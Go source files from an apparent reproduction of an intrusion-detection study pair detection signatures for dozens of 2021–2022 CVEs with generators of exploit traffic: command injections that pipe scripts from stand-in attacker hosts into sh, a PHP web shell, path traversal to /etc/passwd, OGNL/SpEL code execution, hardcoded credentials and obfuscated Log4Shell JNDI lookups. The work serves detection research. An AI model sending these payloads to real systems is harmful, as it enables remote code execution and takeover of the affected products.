	}
	return opt
}

// Exploits returns the exploit definitions for all study CVEs except
// Log4Shell, whose 15 variant signatures are defined in log4shell.go. The
// markers follow the public exploitation technique for each CVE.
func Exploits() []Exploit {
	var out []Exploit
	add := func(cve string, port uint16, sid int, msg string, options string, craft func(rng *rand.Rand) []byte) {
		out = append(out, Exploit{
			CVE:   cve,
			Port:  port,
			SID:   sid,
			Rule:  ruleText(msg, cve, sid, port, options),
			Craft: craft,
		})
	}

	add("2021-22893", 443, 900001, "SERVER-WEBAPP Pulse Connect Secure vulnerable URI access attempt",
		content("/dana-na/../dana/meeting", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/dana-na/../dana/meeting/testfile.cgi?cmd=" + pick(rng, []string{"id", "uname"}))
		})
	add("2021-22204", 443, 900002, "SERVER-WEBAPP ExifTool DjVu metadata command injection attempt",
		content("(metadata (copyright \"\\", "http_client_body"),
		func(rng *rand.Rand) []byte {
			body := `(metadata (copyright "\` + `" . qx{curl http://` + pick(rng, evilHosts) + `/x.sh|sh} . \` + `"b"))`
			return httpPost("/uploads/user/avatar", body, "Content-Type: image/djvu")
		})
	add("2021-29441", 8848, 900003, "SERVER-WEBAPP Alibaba Nacos authentication bypass attempt",
		content("/nacos/v1/auth/users", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/nacos/v1/auth/users?pageNo=1&pageSize=99", "User-Agent: Nacos-Server")
		})
	add("2021-20090", 80, 900004, "SERVER-WEBAPP Arcadyan routers path traversal attempt",
		content("/images/..%2fapply_abstract.cgi", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/images/..%2fapply_abstract.cgi", "action=start_ping&submit_button=ping.html&ping_ipaddr=127.0.0.1")
		})
	add("2021-20091", 80, 900005, "SERVER-WEBAPP Buffalo WSR router configuration injection attempt",
		content("ARC_SYS_TelnetdEnable=1", "http_client_body"),
		func(rng *rand.Rand) []byte {
			return httpPost("/cgi-bin/apply_abstract.cgi", "ARC_SYS_TelnetdEnable=1%0AARC_SYS_SessionTimeout=9999")
		})
	add("2021-1497", 443, 900006, "SERVER-WEBAPP Cisco HyperFlex HX Installer command injection attempt",
		content("/auth/change", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/auth/change", "username=admin&password=`curl http://"+pick(rng, evilHosts)+"/p`")
		})
	add("2021-1498", 443, 900007, "SERVER-WEBAPP Cisco HyperFlex HX Data Platform command injection attempt",
		content("/storfs-asup", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/storfs-asup", "action=&token=`wget http://"+pick(rng, evilHosts)+"/m`&mode=")
		})
	add("2021-31755", 80, 900008, "SERVER-WEBAPP Tenda AC11 router stack buffer overflow attempt",
		content("/goform/setmac", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/goform/setmac", "macaddr="+strings.Repeat("A", 200)+";telnetd;")
		})
	add("2021-31166", 80, 900009, "OS-WINDOWS Microsoft HTTP protocol stack remote code execution attempt",
		content("Accept-Encoding: doar-e", "http_header"),
		func(rng *rand.Rand) []byte {
			return httpGet("/", "Accept-Encoding: doar-e, ftw, imo,,")
		})
	add("2021-31207", 443, 900010, "SERVER-WEBAPP Microsoft Exchange autodiscover SSRF attempt",
		content("/autodiscover.json?", "http_uri")+content("/mapi/nspi", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/autodiscover/autodiscover.json?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com")
		})
	add("2021-32305", 80, 900011, "SERVER-WEBAPP WebSVN search command injection attempt",
		content("/websvn/search.php", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet(`/websvn/search.php?search=%22;curl%20http://` + pick(rng, evilHosts) + `/w.sh%7Csh;%22`)
		})
	add("2021-21985", 443, 900012, "SERVER-WEBAPP VMware vSphere Client remote code execution attempt",
		content("/ui/h5-vsan/rest/proxy/service", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/ui/h5-vsan/rest/proxy/service/com.vmware.vsan.client.services.capability/getClusterCapabilityData",
				`{"methodInput":[{"type":"ClusterComputeResource","value":null}]}`, "Content-Type: application/json")
		})
	add("2021-35464", 8080, 900013, "SERVER-WEBAPP ForgeRock OpenAM remote code execution attempt",
		content("jato.pageSession=", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/openam/oauth2/..;/ccversion/Version?jato.pageSession=" + strings.Repeat("rO0AB", 4) + "serializedgadget")
		})
	add("2021-21799", 80, 900014, "TRUFFLEHUNTER TALOS-2021-1270 attack attempt",
		content("/php/device_graph_page.php", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/php/device_graph_page.php?hostname=<script>document.location='http://" + pick(rng, evilHosts) + "'</script>")
		})
	add("2021-21801", 80, 900015, "TRUFFLEHUNTER TALOS-2021-1272 attack attempt",
		content("/php/device_status.php", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/php/device_status.php?host_id=<script>alert(1)</script>")
		})
	add("2021-21816", 80, 900016, "TRUFFLEHUNTER TALOS-2021-1281 attack attempt",
		content("/config/log_to_ramfile.xml", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/config/log_to_ramfile.xml")
		})
	add("2021-26085", 8090, 900017, "SERVER-WEBAPP Atlassian Confluence information disclosure attempt",
		content("/WEB-INF/web.xml", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/s/anything/_/;/WEB-INF/web.xml")
		})
	add("2021-35395", 80, 900018, "SERVER-WEBAPP Realtek Jungle SDK command injection attempt",
		content("/goform/formWsc", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/goform/formWsc", "submit-url=%2Fwlwps.asp&peerPin=12345678;wget+http://"+pick(rng, evilHosts)+"/r;sh+r;")
		})
	add("2021-26084", 8090, 900019, "SERVER-WEBAPP Atlassian Confluence OGNL injection remote code execution attempt",
		content("/pages/createpage-entervariables.action", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/pages/createpage-entervariables.action?SpaceKey=x",
				`queryString=aaa'%2b%7bClass.forName(%27javax.script.ScriptEngineManager%27)%7d%2b'`)
		})
	add("2021-40539", 9251, 900020, "SERVER-WEBAPP Zoho ManageEngine ADSelfService Plus authentication bypass attempt",
		content("/RestAPI/LogonCustomization", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/./RestAPI/LogonCustomization", "methodToCall=previewMobLogo&Save=yes&form=smartcard&operation=Add&CERTIFICATE_PATH=../../webapps/adssp/help/admin-guide/x.jsp")
		})
	add("2021-33045", 37777, 900021, "SERVER-OTHER Dahua Console Loopback authentication bypass attempt",
		content(`"loginType" : "Loopback"`, ""),
		func(rng *rand.Rand) []byte {
			return []byte(`{ "method" : "global.login", "params" : { "userName" : "admin", "password" : "", "clientType" : "Local", "loginType" : "Loopback", "authorityType" : "Default" }, "id" : 1 }`)
		})
	add("2021-33044", 37777, 900022, "SERVER-OTHER Dahua Console NetKeyboard authentication bypass attempt",
		content(`"clientType" : "NetKeyboard"`, ""),
		func(rng *rand.Rand) []byte {
			return []byte(`{ "method" : "global.login", "params" : { "userName" : "admin", "password" : "", "clientType" : "NetKeyboard", "loginType" : "Direct", "authorityType" : "Default" }, "id" : 1 }`)
		})
	add("2021-40870", 443, 900023, "SERVER-WEBAPP Aviatrix Controller PHP file injection attempt",
		content("set_metric_gw_selections", "http_client_body"),
		func(rng *rand.Rand) []byte {
			return httpPost("/v1/backend1", "CID=x&action=set_metric_gw_selections&account_name=../../var/www/php/uploads/evil&gw_selections=<?php system($_GET['c']); ?>")
		})
	add("2021-38647", 5986, 900024, "OS-OTHER Microsoft OMI remote code execution attempt (OMIGOD)",
		content("ExecuteShellCommand", "http_client_body"),
		func(rng *rand.Rand) []byte {
			body := `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><p:ExecuteShellCommand_INPUT xmlns:p="http://schemas.microsoft.com/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem"><p:command>id</p:command><p:timeout>0</p:timeout></p:ExecuteShellCommand_INPUT></s:Body></s:Envelope>`
			return httpPost("/wsman", body, "Content-Type: application/soap+xml;charset=UTF-8")
		})
	add("2021-40438", 443, 900025, "SERVER-APACHE Apache HTTP server mod_proxy SSRF attempt",
		content("/?unix:", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/?unix:" + strings.Repeat("A", 120) + "|http://" + pick(rng, evilHosts) + "/")
		})
	add("2021-22005", 443, 900026, "SERVER-WEBAPP VMware vCenter Server file upload attempt",
		content("/analytics/telemetry/ph/api/hyper/send", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/analytics/telemetry/ph/api/hyper/send?_c=test&_i=/../../../../var/spool/cron/root", "* * * * * curl http://"+pick(rng, evilHosts)+"/c|sh\n")
		})
	add("2021-36260", 80, 900027, "SERVER-WEBAPP Hikvision webLanguage command injection attempt",
		content("/SDK/webLanguage", "http_uri"),
		func(rng *rand.Rand) []byte {
			body := `<?xml version="1.0" encoding="UTF-8"?><language>$(wget http://` + pick(rng, evilHosts) + `/hik -O /tmp/h; sh /tmp/h)</language>`
			return httpReq("PUT", "/SDK/webLanguage", body, "Content-Type: application/xml")
		})
	add("2021-39226", 3000, 900028, "SERVER-WEBAPP Grafana snapshot authentication bypass attempt",
		content("/api/snapshots/", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/api/snapshots/:key")
		})
	add("2021-41773", 443, 900029, "SERVER-APACHE Apache HTTP Server directory traversal attempt",
		content(".%2e/.%2e/", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd")
		})
	add("2021-27561", 9989, 900030, "SERVER-WEBAPP Yealink Device Management SSRF attempt",
		content("/premise/front/getPingData", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/premise/front/getPingData?url=http://" + pick(rng, evilHosts) + "/$(id)")
		})
	add("2021-20837", 443, 900031, "SERVER-WEBAPP Movable Type CMS command injection attempt",
		content("/mt/mt-xmlrpc.cgi", "http_uri"),
		func(rng *rand.Rand) []byte {
			body := `<?xml version="1.0"?><methodCall><methodName>mt.handler_to_coderef</methodName><params><param><value><base64>YGN1cmwgaHR0cDovL2V2aWwvcGF5bG9hZHxzaGA=</base64></value></param></params></methodCall>`
			return httpPost("/cgi-bin/mt/mt-xmlrpc.cgi", body, "Content-Type: text/xml")
		})
	add("2021-40117", 443, 900032, "SERVER-OTHER Cisco ASA and FTD denial of service attempt",
		content("/+CSCOE+/saml/sp/acs", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/+CSCOE+/saml/sp/acs?tgname=a", "SAMLResponse="+strings.Repeat("%41", 64))
		})
	add("2021-41653", 80, 900033, "SERVER-WEBAPP TP-Link TL-WR840N command injection attempt",
		content("/cgi-bin/luci/;stok=", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/cgi-bin/luci/;stok=/locale?form=country", "operation=write&country=$(rm -rf /tmp/x; wget http://"+pick(rng, evilHosts)+"/t -O- | sh)")
		})
	add("2021-43798", 3000, 900034, "SERVER-WEBAPP Grafana getPluginAssets path traversal attempt",
		content("/public/plugins/", "http_uri"),
		func(rng *rand.Rand) []byte {
			plugin := pick(rng, []string{"alertlist", "annolist", "grafana-clock-panel", "mysql"})
			return httpGet("/public/plugins/" + plugin + "/../../../../../../../../etc/passwd")
		})
	add("2021-44515", 8020, 900035, "SERVER-WEBAPP ManageEngine Desktop Central authentication bypass attempt",
		content("/cewolf/", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/cewolf/?img=%2F..%2F..%2F..%2F..%2Fusers%2Fx", strings.Repeat("PK\x03\x04evilagent", 3))
		})
	add("2021-20038", 443, 900036, "SERVER-WEBAPP SonicWall SMA 100 buffer overflow attempt",
		content("/__api__/v1/logon", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/__api__/v1/logon/" + strings.Repeat("A", 600))
		})
	add("2021-45232", 9000, 900037, "SERVER-WEBAPP Apache APISIX Dashboard authentication bypass attempt",
		content("/apisix/admin/migrate/export", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/apisix/admin/migrate/export")
		})
	add("2022-21796", 4900, 900038, "TRUFFLEHUNTER TALOS-2022-1451 attack attempt",
		content("MOXA|00 00|", ""),
		func(rng *rand.Rand) []byte {
			return append([]byte("MOXA\x00\x00"), []byte(strings.Repeat("\x41", 128))...)
		})
	add("2022-21199", 80, 900039, "TRUFFLEHUNTER TALOS-2022-1446 attack attempt",
		content("/cgi-bin/api.cgi?cmd=Login", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/cgi-bin/api.cgi?cmd=Login&token=123456789", `[{"cmd":"Login","param":{"User":{"userName":"admin","password":"guessed"}}}]`)
		})
	add("2021-45382", 8080, 900040, "SERVER-WEBAPP D-Link router command injection attempt",
		content("/ddns_check.ccp", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/ddns_check.ccp", "ccp_act=doCheck&ddnsHostName=evil;wget+http://"+pick(rng, evilHosts)+"/d;&ddnsUsername=x")
		})
	add("2022-0543", 6379, 900041, "SERVER-OTHER Debian Redis Lua sandbox escape attempt",
		content("package.loadlib", ""),
		func(rng *rand.Rand) []byte {
			script := `local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r");`
			return []byte(fmt.Sprintf("*3\r\n$4\r\nEVAL\r\n$%d\r\n%s\r\n$1\r\n0\r\n", len(script), script))
		})
	add("2022-22947", 8080, 900042, "SERVER-WEBAPP Spring Cloud Gateway SpEL injection attempt",
		content("/actuator/gateway/routes", "http_uri"),
		func(rng *rand.Rand) []byte {
			body := `{"id":"x","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}],"uri":"http://example.com"}`
			return httpPost("/actuator/gateway/routes/exploit", body, "Content-Type: application/json")
		})
	add("2022-22963", 8080, 900043, "SERVER-WEBAPP Spring Cloud Function SpEL injection attempt",
		content("spring.cloud.function.routing-expression", "http_header"),
		func(rng *rand.Rand) []byte {
			return httpPost("/functionRouter", "exploit",
				`spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("wget http://`+pick(rng, evilHosts)+`/s")`)
		})
	add("2022-22965", 8080, 900044, "SERVER-WEBAPP Java ClassLoader access attempt (Spring4Shell)",
		content("class.module.classLoader", "http_client_body"),
		func(rng *rand.Rand) []byte {
			return httpPost("/", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp")
		})
	add("2022-28219", 8081, 900045, "SERVER-WEBAPP Zoho ManageEngine ADAudit Plus XXE attempt",
		content("/api/agent/tabs/agentData", "http_uri"),
		func(rng *rand.Rand) []byte {
			body := `[{"DomainName":"x","EventCode":4688,"data":"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY % remote SYSTEM \"http://` + pick(rng, evilHosts) + `/x.dtd\">%remote;]><x/>"}]`
			return httpPost("/api/agent/tabs/agentData", body, "Content-Type: application/json")
		})
	add("2022-22954", 443, 900046, "SERVER-WEBAPP VMware Workspace ONE Access SSTI attempt",
		content("freemarker.template.utility.Execute", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet(`/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22id%22%29%7D`)
		})
	add("2022-29464", 9443, 900047, "SERVER-WEBAPP WSO2 arbitrary file upload attempt",
		content("/fileupload/toolsAny", "http_uri"),
		func(rng *rand.Rand) []byte {
			body := "------x\r\nContent-Disposition: form-data; name=\"../../../../repository/deployment/server/webapps/authenticationendpoint/shell.jsp\"\r\n\r\n<% out.print(\"pwned\"); %>\r\n------x--\r\n"
			return httpPost("/fileupload/toolsAny", body, "Content-Type: multipart/form-data; boundary=----x")
		})
	add("2022-0540", 8080, 900048, "SERVER-WEBAPP Atlassian Jira Seraph authentication bypass attempt",
		content("InsightPluginShowGeneralConfiguration.jspa", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/secure/InsightPluginShowGeneralConfiguration.jspa;")
		})
	add("2022-27925", 443, 900049, "SERVER-WEBAPP Zimbra mboximport directory traversal attempt",
		content("/service/extension/backup/mboximport", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/service/extension/backup/mboximport?account-name=admin&ow=2&no_switch=1&append=1", "PK\x03\x04../../jetty/webapps/zimbra/public/sh.jsp")
		})
	add("2022-29499", 443, 900050, "SERVER-WEBAPP Mitel MiVoice Connect command injection attempt",
		content("/scripts/vtest.php", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/scripts/vtest.php?get_url=http%3A%2F%2F127.0.0.1%24%28curl%20http%3A%2F%2F" + pick(rng, evilHosts) + "%2Fm%7Csh%29")
		})
	add("2022-1388", 443, 900051, "SERVER-WEBAPP F5 iControl REST authentication bypass attempt",
		content("/mgmt/tm/util/bash", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/mgmt/tm/util/bash", `{"command":"run","utilCmdArgs":"-c 'id'"}`,
				"Connection: keep-alive, X-F5-Auth-Token",
				"X-F5-Auth-Token: a",
				"Authorization: Basic YWRtaW46")
		})
	add("2022-28818", 443, 900052, "SERVER-WEBAPP Adobe ColdFusion cross-site scripting attempt",
		content("/cf_scripts/scripts/ajax/ckeditor", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet(`/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iframedialog.cfm?hash=x&Command=%22%3E%3Cscript%3Ealert(document.domain)%3C/script%3E`)
		})
	add("2022-30525", 443, 900053, "SERVER-WEBAPP Zyxel Firewall command injection attempt",
		content("/ztp/cgi-bin/handler", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/ztp/cgi-bin/handler", `{"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","vlanid":"5","mtu":"; bash -c 'curl http://`+pick(rng, evilHosts)+`/z|sh' ;","data":"hi"}`, "Content-Type: application/json")
		})
	add("2022-29583", 443, 900054, "SERVER-WEBAPP NETGEAR ProSafe SSL VPN SQL injection attempt",
		content("/scgi-bin/platform.cgi", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/scgi-bin/platform.cgi", "thispage=index.htm&USERDBUsers.UserName=admin%27+OR+%271%27%3D%271&USERDBUsers.Password=x&button.login.USERDBUsers=Login")
		})
	add("2022-28938", 8080, 900055, "SERVER-WEBAPP OGNL expression injection attempt (untargeted)",
		content("/%24%7Bnew%20javax.script", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet(`/%24%7Bnew%20javax.script.ScriptEngineManager%28%29.getEngineByName%28%22js%22%29.eval%28%22java.lang.Runtime.getRuntime%28%29.exec%28%27id%27%29%22%29%7D/`)
		})
	add("2022-26134", 8090, 900056, "SERVER-WEBAPP Atlassian Confluence OGNL expression injection attempt",
		content("/%24%7B%28%23a%3D", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet(`/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/`)
		})
	add("2022-33891", 8080, 900057, "SERVER-WEBAPP Apache Spark command injection attempt",
		content("?doAs=`", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/?doAs=`curl%20http://" + pick(rng, evilHosts) + "/sp|sh`")
		})
	add("2022-26138", 8090, 900058, "SERVER-WEBAPP Atlassian Confluence hardcoded credentials use attempt",
		content("os_username=disabledsystemuser", "http_client_body"),
		func(rng *rand.Rand) []byte {
			return httpPost("/dologin.action", "os_username=disabledsystemuser&os_password=disabled1system1user6708&login=Log+in&os_destination=%2F")
		})
	add("2022-35914", 443, 900059, "SERVER-WEBAPP GLPI htmLawed remote code execution attempt",
		content("/vendor/htmlawed/htmlawed/htmLawedTest.php", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/vendor/htmlawed/htmlawed/htmLawedTest.php", "sid=x&hhook=exec&text=id&hexec=Test", "Cookie: sid=x")
		})
	add("2022-41040", 443, 900060, "SERVER-WEBAPP Microsoft Exchange Server SSRF attempt (ProxyNotShell)",
		content("/powershell", "http_uri")+content("autodiscover.json", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/autodiscover/autodiscover.json?@evil.com/powershell/?X-Rps-CAT=x&Email=autodiscover/autodiscover.json%3F@evil.com")
		})
	add("2022-40684", 443, 900061, "SERVER-WEBAPP Fortinet FortiOS authentication bypass attempt",
		content("User-Agent: Report Runner", "http_header"),
		func(rng *rand.Rand) []byte {
			return httpReq("PUT", "/api/v2/cmdb/system/admin/admin", `{"ssh-public-key1":"\"ssh-rsa AAAAB3Nz attacker\""}`,
				"User-Agent: Report Runner", "Forwarded: for=\"[127.0.0.1]:8000\";by=\"[127.0.0.1]:9000\";")
		})
	add("2022-44877", 2031, 900062, "SERVER-WEBAPP Control Web Panel 7 command injection attempt",
		content("/login/index.php?login=$(", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/login/index.php?login=$(curl%20http://"+pick(rng, evilHosts)+"/cwp|sh)", "username=root&password=x&commit=Login")
		})
	return out
}
