package scanner

import (
	"fmt"
	"math/rand"
	"strings"

	"repro/internal/datasets"
)

// Log4Shell exploit variants. The vulnerability can be triggered through
// any logged input, so adversaries injected JNDI lookups into URIs, headers,
// cookies, bodies, SMTP messages, and even the HTTP request method — and as
// naive signatures appeared, they layered Log4j's own escape sequences
// (`${lower:...}`, `${upper:...}`, `${::-x}`) over the `jndi` keyword to
// slip past them. Table 6 records the five signature waves Cisco released
// in response; this file reproduces each variant's payload shape and its
// detecting signature, keeping every (payload, SID) pair mutually exclusive
// so Figure 9's per-variant attribution is exact.

// log4ShellVariant couples a Table 6 SID with its payload construction.
type log4ShellVariant struct {
	SID int
	// Group is the Table 6 release wave (A–E).
	Group string
	// Token is the distinctive lookup text the signature matches and every
	// payload of this variant contains.
	Token string
	// Context is where the payload lands.
	Context datasets.Log4ShellContext
	// Weight apportions Log4Shell's total event volume across variants.
	// Earlier, simpler variants dominate (Finding 14: sophistication grew
	// over days, and Figure 9 shows later variants with smaller volume).
	Weight float64
}

// log4ShellVariants enumerates all 15 Table 6 SIDs.
func log4ShellVariants() []log4ShellVariant {
	return []log4ShellVariant{
		// Group A — released 9h after publication: plain jndi plus the
		// single-keyword lower/upper wrappers.
		{SID: 58722, Group: "A", Token: "${jndi:", Context: datasets.CtxHTTPURI, Weight: 0.30},
		{SID: 58723, Group: "A", Token: "${jndi:", Context: datasets.CtxHTTPHeader, Weight: 0.25},
		{SID: 58724, Group: "A", Token: "${lower:jndi", Context: datasets.CtxHTTPHeader, Weight: 0.08},
		{SID: 58725, Group: "A", Token: "${lower:jndi", Context: datasets.CtxHTTPURI, Weight: 0.05},
		{SID: 58727, Group: "A", Token: "${jndi:", Context: datasets.CtxHTTPBody, Weight: 0.08},
		{SID: 58731, Group: "A", Token: "${upper:jndi", Context: datasets.CtxHTTPHeader, Weight: 0.05},
		// Group B — 17h: cookies, and the first $-escape evasion.
		{SID: 300057, Group: "B", Token: "${jndi:", Context: datasets.CtxHTTPCookie, Weight: 0.05},
		{SID: 58738, Group: "B", Token: "${${upper:j}ndi", Context: datasets.CtxHTTPHeader, Weight: 0.03},
		// Group C — 1d15h: per-letter escape sequences for jndi itself.
		{SID: 58739, Group: "C", Token: "${${lower:j}ndi", Context: datasets.CtxHTTPHeader, Weight: 0.03},
		{SID: 58741, Group: "C", Token: "${${::-j}ndi:", Context: datasets.CtxHTTPBody, Weight: 0.02},
		{SID: 58742, Group: "C", Token: "${${::-j}nd${::-i}:", Context: datasets.CtxHTTPHeader, Weight: 0.02},
		{SID: 58744, Group: "C", Token: "${${::-jn}di:", Context: datasets.CtxHTTPURI, Weight: 0.02},
		// Group D — 3d11h: escaped jndi in cookies, and SMTP delivery.
		{SID: 300058, Group: "D", Token: "${${::-j}ndi:", Context: datasets.CtxHTTPCookie, Weight: 0.01},
		{SID: 58751, Group: "D", Token: "${jndi:", Context: datasets.CtxSMTP, Weight: 0.005},
		// Group E — 90d: injection via the HTTP request method.
		{SID: 59246, Group: "E", Token: "${jndi:", Context: datasets.CtxHTTPMethod, Weight: 0.005},
	}
}

// lookupFor renders a full JNDI lookup for a variant token.
func lookupFor(token string, rng *rand.Rand) string {
	proto := pick(rng, []string{"ldap", "ldaps", "rmi", "dns"})
	host := pick(rng, evilHosts)
	path := fmt.Sprintf("Exploit%d", rng.Intn(1000))
	switch token {
	case "${jndi:":
		return fmt.Sprintf("${jndi:%s://%s/%s}", proto, host, path)
	case "${lower:jndi":
		return fmt.Sprintf("${${lower:jndi}:%s://%s/%s}", proto, host, path)
	case "${upper:jndi":
		return fmt.Sprintf("${${upper:jndi}:%s://%s/%s}", proto, host, path)
	case "${${upper:j}ndi":
		return fmt.Sprintf("${${upper:j}ndi:%s://%s/%s}", proto, host, path)
	case "${${lower:j}ndi":
		return fmt.Sprintf("${${lower:j}ndi:%s://%s/%s}", proto, host, path)
	case "${${::-j}ndi:":
		return fmt.Sprintf("${${::-j}ndi:%s://%s/%s}", proto, host, path)
	case "${${::-j}nd${::-i}:":
		return fmt.Sprintf("${${::-j}nd${::-i}:%s://%s/%s}", proto, host, path)
	case "${${::-jn}di:":
		return fmt.Sprintf("${${::-jn}di:%s://%s/%s}", proto, host, path)
	default:
		return fmt.Sprintf("%s%s://%s/%s}", token, proto, host, path)
	}
}

// craftLog4Shell builds a payload for the variant.
func craftLog4Shell(v log4ShellVariant, rng *rand.Rand) []byte {
	lookup := lookupFor(v.Token, rng)
	switch v.Context {
	case datasets.CtxHTTPURI:
		return httpGet("/?x=" + lookup)
	case datasets.CtxHTTPHeader:
		hdr := pick(rng, []string{"User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For"})
		return httpGet("/", hdr+": "+lookup)
	case datasets.CtxHTTPBody:
		return httpPost("/api/login", "username="+lookup+"&password=x")
	case datasets.CtxHTTPCookie:
		return httpGet("/", "Cookie: JSESSIONID="+lookup)
	case datasets.CtxHTTPMethod:
		return []byte(lookup + " / HTTP/1.1\r\nHost: target\r\n\r\n")
	case datasets.CtxSMTP:
		return []byte("EHLO scanner\r\nMAIL FROM:<probe@example.com>\r\nRCPT TO:<postmaster@target>\r\nDATA\r\nSubject: benign leading text then " + lookup + "\r\n\r\n.\r\nQUIT\r\n")
	default:
		return httpGet("/?x=" + lookup)
	}
}

// log4ShellRule renders the signature for a variant.
func log4ShellRule(v log4ShellVariant) string {
	buffer := ""
	switch v.Context {
	case datasets.CtxHTTPURI:
		buffer = "http_uri"
	case datasets.CtxHTTPHeader:
		buffer = "http_header"
	case datasets.CtxHTTPBody:
		buffer = "http_client_body"
	case datasets.CtxHTTPCookie:
		buffer = "http_cookie"
	case datasets.CtxHTTPMethod:
		buffer = "http_method"
	case datasets.CtxSMTP:
		buffer = "" // raw stream
	}
	options := ""
	if v.Context == datasets.CtxSMTP {
		// The SMTP signature anchors on the protocol exchange, then the
		// lookup anywhere later in the stream (the "extraneous ignored
		// text" adaptation of Table 6).
		options = content("MAIL FROM", "") + "nocase; " + content(v.Token, "") + "nocase; "
	} else {
		options = content(v.Token, buffer) + "nocase; "
	}
	msg := fmt.Sprintf("SERVER-OTHER Apache Log4j logging remote code execution attempt (%s, %s)", v.Context, strings.ReplaceAll(v.Token, `"`, ``))
	return ruleText(msg, "2021-44228", v.SID, 0, options)
}
