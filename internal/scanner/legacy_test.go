package scanner

import (
	"math/rand"
	"net/netip"
	"testing"

	"repro/internal/datasets"
	"repro/internal/ids"
	"repro/internal/packet"
	"repro/internal/rules"
)

func TestLegacyRulesetParses(t *testing.T) {
	rs, err := LegacyRuleset()
	if err != nil {
		t.Fatal(err)
	}
	if len(rs) != 10 {
		t.Fatalf("legacy rules = %d, want 10", len(rs))
	}
	for _, dr := range rs {
		if dr.Published.After(datasets.StudyWindow.Start) {
			t.Errorf("legacy rule sid %d published %v, inside study window", dr.Rule.SID, dr.Published)
		}
		if len(dr.Rule.CVEs()) != 1 || !isLegacyCVE(dr.Rule.CVEs()[0]) {
			t.Errorf("legacy rule sid %d CVEs = %v", dr.Rule.SID, dr.Rule.CVEs())
		}
	}
}

// Legacy payloads match their own rules under the FULL ruleset, exactly.
func TestLegacyAttributionExact(t *testing.T) {
	full, err := FullRuleset()
	if err != nil {
		t.Fatal(err)
	}
	e := ids.NewEngine(full, ids.Config{PortInsensitive: true})
	rng := rand.New(rand.NewSource(4))
	for _, ex := range LegacyExploits() {
		for trial := 0; trial < 3; trial++ {
			bp := Blueprint{
				Time:    datasets.StudyWindow.Start,
				Src:     mustAddr("45.95.168.9"),
				DstPort: ex.Port,
				Payload: ex.Craft(rng),
			}
			ms := e.Match(sessionFor(bp))
			if len(ms) != 1 || ms[0].SID != ex.SID {
				var got []int
				for _, m := range ms {
					got = append(got, m.SID)
				}
				t.Fatalf("CVE-%s matched %v, want [%d]:\n%s", ex.CVE, got, ex.SID, bp.Payload)
			}
		}
	}
}

// The paper's filter removes every legacy signature and keeps every study
// signature: the filtered full ruleset IS the study ruleset.
func TestFilterReproducesStudyRuleset(t *testing.T) {
	full, err := FullRuleset()
	if err != nil {
